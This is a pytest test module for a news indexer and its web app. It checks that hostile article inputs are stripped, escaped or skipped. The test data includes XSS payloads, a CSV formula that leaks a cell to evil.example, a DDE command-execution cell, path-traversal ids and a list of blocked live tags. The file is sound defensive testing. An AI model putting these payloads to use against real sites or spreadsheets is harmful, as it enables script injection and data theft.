"""Hostile articles: each bad input is skipped or cleaned with a reason, through the real CLI,
and nothing a file holds reaches a page or the JSON as live markup."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import re
from html.parser import HTMLParser
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from indexer.errors import SkipArticle
from indexer.loaders import DEFAULT_MAX_BYTES, discover, read_file
from indexer.models import RawRecord
from indexer.normalize.clean import clean_body, clean_fields, clean_text, clean_url, strip_markup
from indexer.pipeline import build_index
from webapp import create_app, marked

from .conftest import ROOT, run_cli

BOTH_ENGINES = True
# Tests of the cleaner, the templates and CSV cells alone: no index, no engine.
DEFAULT_ENGINE_ONLY = {
    "test_markup_and_script_are_stripped_from_fields",
    "test_legitimate_text_is_kept",
    "test_urls_must_be_http_or_are_dropped",
    "test_body_keeps_paragraphs_and_legitimate_text",
    "test_a_stray_opening_tag_does_not_swallow_the_article",
    "test_hostile_volumes_stay_linear",
    "test_clean_fields_fixes_fields_and_reports_them",
    "test_an_article_that_was_only_a_script_is_skipped",
    "test_a_deeply_nested_sidecar_is_ignored_not_fatal",
    "test_every_template_is_autoescaped",
    "test_no_template_or_view_marks_text_safe_except_the_marked_filter",
    "test_marked_snippets_never_sit_inside_a_tag",
    "test_the_marked_filter_lets_only_mark_through",
    "test_every_formula_start_is_prefixed",
    "test_words_inside_an_attribute_value_are_not_counted_as_attributes",
}
MAX_BYTES = 64 * 1024  # a small cap, so the oversized file stays small
TEMPLATES = ROOT / "webapp" / "templates"


def _bench(name: str):
    """Import a bench script as a module (bench/ is not a package)."""
    spec = importlib.util.spec_from_file_location(f"bench_{name}", ROOT / "bench" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


hostile_corpus = _bench("hostile_corpus")


# The cleaner on its own.


@pytest.mark.parametrize(
    ("value", "cleaned", "note"),
    [
        ("<script>alert('x')</script> Hostile headline", "Hostile headline", "<script>"),
        ("<img src=x onerror=alert(1)>Ana Ruiz", "Ana Ruiz", "<img>"),
        ("<svg/onload=alert(1)>PARIS", "PARIS", "<svg>"),
        ('<a href="javascript:alert(1)">Harbour Daily</a>', "Harbour Daily", "<a>"),
        ("<b>Bold</b> &amp; brave", "Bold & brave", "<b>"),
        ("&lt;script&gt;x&lt;/script&gt; <i>Cocoa</i>", "Cocoa", "<script>"),
        ("Title <img src=x onerror=alert(1)", "Title", "<img>"),
        ("<my-widget>Custom</my-widget>", "Custom", "<my-widget>"),
        ("<foo onclick=steal()>Handler</foo>", "Handler</foo>", "<foo>"),
        ("click javascript:alert(1) now", "click now", "script link removed"),
        ("Invoice \u202egnp.exe", "Invoice gnp.exe", "control characters removed"),
        ("x" * 1500, "x" * 1000 + " …", "cut to 1000 characters"),
    ],
)
def test_markup_and_script_are_stripped_from_fields(value, cleaned, note):
    notes: list[str] = []
    assert clean_text("title", value, notes) == cleaned
    assert len(notes) == 1 and notes[0].startswith("title: ") and note in notes[0]


@pytest.mark.parametrize(
    "value",
    [
        "AT&T",
        "a < b and c > d",
        "x<y and y>z",
        "<Reuters>",
        "JavaScript: The Good Parts",
        "R&D spending &notes",
        "Ukraine–Russia talks: «día» 東京",
    ],
)
def test_legitimate_text_is_kept(value):
    notes: list[str] = []
    assert clean_text("title", value, notes) == value
    assert notes == []


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://example.org/a?b=1&c=2#d", True),
        ("http://example.org", True),
        ("javascript:alert(1)", False),
        (" JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("//example.org/no-scheme", False),
        ("ftp://example.org/file", False),
        ('https://example.org/"><script>', False),
        ("https://exa mple.org/", False),
        ("https:///no-host", False),
    ],
)
def test_urls_must_be_http_or_are_dropped(url, kept):
    notes: list[str] = []
    assert clean_url(url, notes) == (url.strip() if kept else None)
    assert bool(notes) is not kept
    if notes:
        assert notes[0].startswith("url: dropped")


def test_body_keeps_paragraphs_and_legitimate_text():
    notes: list[str] = []
    body = clean_body(
        "<p>One &amp; two</p><script>steal()</script><p>a < b</p><!-- c --><br>three",
        notes,
    )
    assert body == "One & two\n\na < b\n\nthree"
    assert notes == ["body: HTML removed (<script>, <!-- -->, <p>, <br>)"]
    plain = "Cocoa rose.\n\nAT&T said a < b; see javascript: URLs explained."
    assert clean_body(plain, notes := []) == plain and notes == []


def test_a_stray_opening_tag_does_not_swallow_the_article():
    body, removed = strip_markup("Start <iframe src=x> middle <script> end", breaks=True)
    assert body.split() == ["Start", "middle", "end"]
    assert removed == ["<iframe>", "<script>"]


@pytest.mark.slow
def test_hostile_volumes_stay_linear():
    # Each of these took minutes with naive lazy regexes; no time is asserted, only that
    # they finish and give the right text.
    assert clean_body("<!--" * 100_000 + " tail", []).endswith("tail")
    assert clean_body("<script>" * 100_000 + " tail", []) == "tail"
    assert clean_body("<b>" * 100_000 + " tail", []) == "tail"


def test_clean_fields_fixes_fields_and_reports_them():
    values = {
        "body": "<p>Body</p>",
        "title": "<b>Title</b>",
        "source": {"not": "text"},
        "byline": "<i>Ana Ruiz</i>",
        "contributors": ["<img src=x onerror=alert(1)>", "Tom Berg", "Tom Berg"],
        "url": "javascript:alert(1)",
    }
    notes = clean_fields(values)
    assert (values["title"], values["source"], values["url"], values["body"]) == (
        "Title",
        None,
        None,
        "Body",
    )
    assert values["byline"] == ["Ana Ruiz"] and values["contributors"] == ["Tom Berg"]
    assert {n.split(":")[0] for n in notes} == {
        "title",
        "source",
        "byline",
        "contributors",
        "url",
        "body",
    }


def test_an_article_that_was_only_a_script_is_skipped():
    values = {"body": "<script>alert(1)</script>", "title": "<b></b>"}
    with pytest.raises(SkipArticle, match="no article text left after removing markup"):
        clean_fields(values)


# The hostile corpus through the real `newsindex rebuild`.


def _app(index_dir, engine_name: str):
    """An app on an index folder, searched by an engine."""
    return create_app({"TESTING": True, "INDEX_DIR": index_dir, "BACKEND": engine_name})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, engine_name):
    """The hostile folder, its expected outcomes, and the finished rebuild."""
    out = tmp_path_factory.mktemp("hostile")
    expected = hostile_corpus.make_corpus(out, MAX_BYTES)
    with pytest.MonkeyPatch.context() as mp:  # before the per-test NEWSINDEX_BACKEND
        mp.setenv("NEWSINDEX_BACKEND", engine_name)
        done = hostile_corpus.rebuild(out, MAX_BYTES)
    return out, expected, done


@pytest.mark.slow
def test_the_rebuild_survives_every_hostile_input(hostile):
    _out, expected, done = hostile
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    rows = hostile_corpus.check(expected, done.stdout)
    assert [r for r in rows if not r[3]] == []
    skipped, cleaned = hostile_corpus.parse_report(done.stdout)
    assert len(skipped) >= 20 and len(cleaned) >= 6
    assert all(reason.strip() for reasons in skipped.values() for reason in reasons)


class _Tags(HTMLParser):
    """Every start tag with its attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        """Record one tag."""
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


LIVE_TAGS = {"script", "iframe", "img", "object", "embed", "frame", "foreignobject", "base"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data"}


def _assert_no_live_markup(html: str, where: str) -> None:
    """No script-capable tag, event handler or script URL in a page."""
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag not in LIVE_TAGS, f"<{tag}> on {where}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name}= on <{tag}> on {where}"
            if name in URL_ATTRS and value:
                scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), where


@pytest.fixture(scope="module")
def hostile_client(hostile, engine_name):
    """A test client on the index built from the hostile folder."""
    out, _expected, done = hostile
    assert done.returncode == 0, done.stderr[-3000:]
    app = _app(out / "index", engine_name)
    yield app.test_client()
    live = app.extensions.get("newsindex")
    if live is not None:
        live.close()


def test_no_page_or_json_carries_live_markup(hostile_client):
    client = hostile_client
    listing = client.get("/api/search?per_page=100").get_json()
    assert listing["total"] >= 15
    pages = ["/", "/?q=cocoa", "/?q=harbour", "/?q=alert", "/?q=script", "/?sort=oldest"]
    pages += [f"/?source={quote(f['value'])}" for f in listing["facets"]["source"]]
    pages += [f"/?byline={quote(f['value'])}" for f in listing["facets"]["byline"]]
    for hit in listing["hits"]:
        pages.append(f"/article/{quote(hit['id'], safe='')}?q=cocoa")
        for key in ("title", "source", "publisher", "dateline", *hit["byline"]):
            value = hit.get(key, key) or ""
            assert not re.search(r"</?(script|img|svg|iframe|a|b|i)\b", value, re.I), hit
            assert "javascript:" not in value.lower(), hit
        assert hit["url"] is None or hit["url"].startswith(("http://", "https://")), hit
        for snippet in hit["snippets"]:
            assert "<" not in re.sub(r"</?mark>", "", snippet), snippet
    for page in pages:
        response = client.get(page)
        assert response.status_code in (200, 404), page
        _assert_no_live_markup(response.get_data(as_text=True), page)
    search = client.get("/api/search?q=dock+workers").get_json()
    body = client.get(f"/api/articles/{quote(search['hits'][0]['id'], safe='')}").get_json()
    assert body["body"].startswith("Dock workers ended a strike")
    assert "steal(" not in body["body"] and "<p>" not in body["body"]


def test_legitimate_ampersands_and_angles_survive_and_are_escaped(hostile_client):
    hit = hostile_client.get("/api/search?q=rates+quoting").get_json()["hits"][0]
    assert hit["title"] == "AT&T says a < b for rates, and <Reuters> reports it"
    assert hit["url"] == "https://example.org/att?a=1&b=2"
    html = hostile_client.get("/?q=rates+quoting").get_data(as_text=True)
    assert "AT&amp;T says a &lt; b for rates, and &lt;Reuters&gt; reports it" in html


def test_a_file_name_made_of_markup_is_shown_escaped(hostile_client):
    html = hostile_client.get("/?q=markup+file+name").get_data(as_text=True)
    assert "&lt;img src=x onerror=alert(" in html
    _assert_no_live_markup(html, "file name search")


def test_hostile_ids_are_escaped_in_links(hostile_client):
    data = hostile_client.get("/api/search?q=id+made+of+markup").get_json()
    article_id = data["hits"][0]["id"]
    assert article_id == '"><svg onload=alert("id")>'
    html = hostile_client.get("/?q=id+made+of+markup").get_data(as_text=True)
    assert "/article/%22%3E%3Csvg%20onload=alert(%22id%22)%3E" in html
    page = hostile_client.get(f"/article/{quote(article_id, safe='')}")
    assert page.status_code == 200
    _assert_no_live_markup(page.get_data(as_text=True), "hostile id page")


def test_the_file_size_cap_is_configurable_and_5_mib_by_default(hostile, tmp_path):
    _out, _expected, done = hostile
    assert f"articles/huge.txt: file is larger than the {MAX_BYTES} byte limit" in done.stdout
    app = create_app({"TESTING": True, "INDEX_DIR": tmp_path / "index"})
    assert app.config["MAX_FILE_BYTES"] == DEFAULT_MAX_BYTES == 5 * 1024 * 1024


# Bugs found here and fixed outside this module's files.


def test_a_deeply_nested_sidecar_is_ignored_not_fatal(tmp_path):
    (tmp_path / "story.txt").write_text("Story\n\nCocoa rose on Monday.\n")
    (tmp_path / "story.json").write_text("[" * 30_000 + "]" * 30_000)
    found, skipped = discover([tmp_path])  # raised RecursionError: the whole rebuild died
    assert [f.path.name for f in found] == ["story.txt"]
    assert [s.reason for s in skipped if s.file.endswith("story.json")][0].startswith(
        "sidecar ignored"
    )


def test_an_article_whose_id_holds_a_slash_can_be_opened(tmp_path, engine_name):
    (tmp_path / "feed.json").write_text(
        json.dumps({"id": "reuters/2025/01/15", "title": "Slash id", "body": "Slash body."})
    )
    build_index([tmp_path / "feed.json"], tmp_path / "index", backend=engine_name)
    app = _app(tmp_path / "index", engine_name)
    try:
        client = app.test_client()
        html = client.get("/?q=slash").get_data(as_text=True)
        link = re.search(r'href="(/article/[^"?]+)', html).group(1)
        assert client.get(link).status_code == 200, link
        assert client.get("/api/articles/" + link.removeprefix("/article/")).status_code == 200
    finally:
        app.extensions["newsindex"].close()


# Sanitising happens in one place.


def test_every_template_is_autoescaped():
    app = create_app({"TESTING": True, "INDEX_DIR": "unused"})
    names = app.jinja_env.list_templates()
    assert names and all(app.select_jinja_autoescape(name) for name in names), names
    files = [p.relative_to(TEMPLATES).as_posix() for p in TEMPLATES.rglob("*") if p.is_file()]
    assert sorted(files) == sorted(names)


def test_no_template_or_view_marks_text_safe_except_the_marked_filter():
    for path in TEMPLATES.rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            assert not re.search(r"\|\s*safe\b", text), path
            assert "autoescape false" not in text.replace("  ", " "), path
    for path in (ROOT / "webapp").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name != "__init__.py":
            assert "Markup(" not in text, path
        assert "render_template_string" not in text, path


def test_marked_snippets_never_sit_inside_a_tag():
    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"\{\{[^}]*(\|\s*marked|snippet|paragraph)[^}]*\}\}", text):
            before = text[: match.start()]
            assert before.rfind("<") < before.rfind(">"), f"{path.name}: {match.group(0)}"


def test_the_marked_filter_lets_only_mark_through():
    html = str(marked('<mark>ok</mark><script>x</script><img src=x onerror=alert(1)>"q"'))
    assert html.replace("<mark>", "").replace("</mark>", "").count("<") == html.count("&lt;")
    assert "<script" not in html and "<img" not in html and "<mark>ok</mark>" in html


# Inputs found by attacking newsindex (issue 18): each is cleaned or skipped with its reason,
# and no page, feed, export or CLI answer breaks on it.

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
BAD_IDS = ["line\r\nbreak", "/etc/passwd", ".", "..", "x/../y"]


def _line(**fields: str) -> str:
    """One dated JSONL line; lone surrogates written as JSON escapes, as an export holds them."""
    return json.dumps({"date": "2025-01-15", **fields}, ensure_ascii=True) + "\n"


BODY = "Cocoa prices rose in Abidjan as exporters waited for the rains."


def _feed_lines() -> list[str]:
    """JSONL lines whose characters, formulas and ids broke pages, feeds and exports."""
    lines = [
        _line(title="Lone surrogate \ud800 cocoa", body=BODY),
        _line(title="Non-character \uffff cocoa", body=BODY),
        _line(title=FORMULA, source="=cmd|' /C calc'!A0", byline="@Ana Ruiz", body=BODY),
    ]
    odd = [_line(id=bad, title=f"Odd {n} cocoa", body=BODY) for n, bad in enumerate(BAD_IDS)]
    return lines + odd


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, engine_name):
    """A folder of the inputs that broke builds and pages, rebuilt through the CLI."""
    root = tmp_path_factory.mktemp("attacked")
    folder = root / "in"
    folder.mkdir()
    lines = _feed_lines()
    lines[1] = _line(title="Non-character \uffff cocoa", source="Wire\udc80", body=BODY)
    (folder / "feed.jsonl").write_text("".join(lines))
    (folder / "note.txt").write_text("Harbour note\n\nThe harbour reopened on Monday.\n")
    (folder / "metadata.csv").write_bytes(b"\xff\xfeA")  # UTF-16 with a bad byte
    attributes = " ".join(f'data-a{n}="{n}"' for n in range(20_000))
    (folder / "page.html").write_text(f"<html><body {attributes}><p>{BODY}</p></body></html>")
    deep = folder
    for _ in range(1000):  # Path.mkdir(parents=True) itself recurses too deep for this
        deep = deep / "d"
        os.mkdir(deep)
    (deep / "bottom.txt").write_text("Bottom\n\nAt the bottom of the folders.\n")
    try:
        yield (
            root,
            run_cli(
                ["rebuild", "in"], root, root / "index", timeout=300, NEWSINDEX_BACKEND=engine_name
            ),
        )
    finally:
        while deep != folder:  # shutil.rmtree (pytest's clean-up) recurses too deep for this
            for child in deep.iterdir():
                child.unlink()
            deep.rmdir()
            deep = deep.parent


@pytest.mark.slow
def test_the_attacked_folder_is_indexed_with_every_problem_reported(attacked):
    root, done = attacked
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    out = done.stdout
    assert "in/metadata.csv: metadata.csv ignored: not valid UTF-16" in out
    assert "in/page.html: HTML tag with 20,000 attributes (more than 1,000)" in out
    assert "folder nested more than 256 levels deep: not read" in out
    assert "in/feed.jsonl:1: 1 invalid character" in out
    assert "in/feed.jsonl:2: 2 invalid characters" in out  # U+FFFF and the lone surrogate
    for n, bad in enumerate(BAD_IDS, start=4):
        shown = bad.encode("unicode_escape").decode("ascii")
        assert f"in/feed.jsonl:{n}: supplied id {shown!r}" in out, out
    assert "Rebuilt: 9 articles indexed" in out  # the 8 JSONL lines and note.txt


@pytest.fixture(scope="module")
def feed_index(tmp_path_factory, engine_name):
    """An index of the hostile JSONL lines alone (which older builds could index)."""
    root = tmp_path_factory.mktemp("hostile-feed")
    (root / "feed.jsonl").write_text("".join(_feed_lines()))
    build_index([root / "feed.jsonl"], root / "index", backend=engine_name)
    return root


@pytest.fixture
def attacked_client(feed_index, engine_name):
    """A client of the app on the hostile feed's index."""
    app = _app(feed_index / "index", engine_name)
    yield app.test_client()
    app.extensions["newsindex"].close()


@pytest.mark.slow
def test_bad_characters_break_no_page_feed_or_cli_answer(feed_index, attacked_client):
    client = attacked_client
    for page in ["/", "/?q=cocoa", "/?q=surrogate", "/api/search?q=cocoa", "/feed.atom"]:
        response = client.get(page)
        assert response.status_code == 200, page
    hits = client.get("/api/search?q=cocoa&per_page=50").get_json()["hits"]
    titles = {h["title"] for h in hits}
    assert {"Lone surrogate \ufffd cocoa", "Non-character \ufffd cocoa"} <= titles
    for hit in hits:
        link = f"/article/{quote(hit['id'], safe='/')}"
        assert client.get(link).status_code == 200, link
        assert client.get(f"/api/articles/{quote(hit['id'], safe='/')}").status_code == 200
    for query in ("", "?q=cocoa"):
        feed = client.get(f"/feed.atom{query}").get_data()
        ElementTree.fromstring(feed)  # well-formed XML: raises otherwise
        assert "Non-character \ufffd cocoa".encode() in feed
    done = run_cli(["search", "--json", "surrogate"], feed_index, feed_index / "index", timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout)["hits"][0]["title"] == "Lone surrogate \ufffd cocoa"


def test_bad_ids_are_replaced_and_their_articles_open(attacked_client):
    hits = attacked_client.get("/api/search?q=odd&per_page=50").get_json()["hits"]
    assert len(hits) == len(BAD_IDS)
    for hit in hits:
        assert hit["id"] not in BAD_IDS and re.fullmatch(r"[0-9a-f]{16}", hit["id"])
        assert attacked_client.get(f"/article/{hit['id']}").status_code == 200


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(attacked_client):
    rows = list(csv.reader(io.StringIO(attacked_client.get("/api/search.csv?q=hyperlink").text)))
    header, row = rows[0], rows[1]
    cell = dict(zip(header, row, strict=True))
    assert cell["title"] == "'" + FORMULA
    assert cell["source"] == "'=cmd|' /C calc'!A0"
    assert cell["byline"] == "'@Ana Ruiz"
    chart = attacked_client.get("/api/chart.csv?q=cocoa&chart=source").text
    header = next(csv.reader(io.StringIO(chart)))
    assert "'=cmd|' /C calc'!A0" in header and "=cmd|' /C calc'!A0" not in header


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_prefixed(value):
    from webapp.export import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell("plain =") == "plain =" and safe_cell(-1) == -1


def test_words_inside_an_attribute_value_are_not_counted_as_attributes(tmp_path):
    """A real page's long quoted value (a description, a srcset) is no attack: it is indexed."""
    words = " ".join(f"word{n}" for n in range(3_000))
    page = tmp_path / "page.html"
    page.write_text(
        f'<html><head><title>Port strike</title><meta name="description" content="{words}">'
        f"</head><body><h1>Port strike</h1><p>{BODY}</p></body></html>",
        encoding="utf-8",
    )
    found, skipped = discover([str(page)])
    assert not skipped
    (record,) = read_file(found[0])
    assert isinstance(record, RawRecord) and record.kind == "html" and BODY in record.text
